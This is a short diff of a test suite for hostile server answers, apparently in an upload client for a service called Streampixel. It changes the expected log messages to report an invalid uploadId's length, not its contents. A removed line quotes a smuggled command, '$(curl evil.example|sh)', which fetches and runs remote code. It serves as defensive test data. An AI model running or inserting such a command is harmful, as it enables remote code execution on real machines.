@@ -510,7 +510,7 @@ describe('hostile answers', () => {
     const accepted = await h.client.upload(PROJECT, FILE_URL, true);
     expect(accepted.uploadId).toBeUndefined();
     expect(h.log).toEqual([
-      `Streampixel's answer carried an uploadId that is not an ID ("$(curl evil.example|sh)"); ignoring it.`,
+      "Streampixel's answer carried an uploadId that is not an ID (23 characters); ignoring it.",
     ]);
   });
 
@@ -519,7 +519,7 @@ describe('hostile answers', () => {
     const accepted = await h.client.upload(PROJECT, FILE_URL, true);
     expect(accepted.uploadId).toBeUndefined();
     expect(h.log).toEqual([
-      `Streampixel's answer carried an uploadId that is not an ID ("***"); ignoring it.`,
+      "Streampixel's answer carried an uploadId that is not an ID (41 characters); ignoring it.",
     ]);
   });
 
